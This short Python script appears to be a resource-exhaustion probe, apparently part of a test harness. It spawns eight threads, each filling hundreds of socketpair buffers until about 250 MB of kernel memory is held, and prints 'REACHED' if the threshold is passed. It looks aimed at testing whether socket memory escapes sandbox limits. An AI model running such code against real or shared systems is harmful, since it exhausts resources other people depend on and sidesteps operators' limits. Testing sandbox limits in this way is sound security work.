import ctypes
import socket
import threading
import time

from attack import *

CLOSE_RANGE, CLOSE_RANGE_UNSHARE = 436, 2
block, sent = b"x" * 32768, []


def fill():
    if ctypes.CDLL(None).syscall(CLOSE_RANGE, 200, 210, CLOSE_RANGE_UNSHARE):
        return
    held, count = [], 0
    for _ in range(110):
        held += socket.socketpair()
    for one in held:
        one.setblocking(False)
        try:
            while True:
                count += one.send(block)
        except OSError:
            pass
    sent.append(count)
    time.sleep(1.5)
    if sum(sent) > 250 << 20:
        print("REACHED: 250 MB in sockets of threads", flush=True)


threads = [threading.Thread(target=fill) for _ in range(8)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
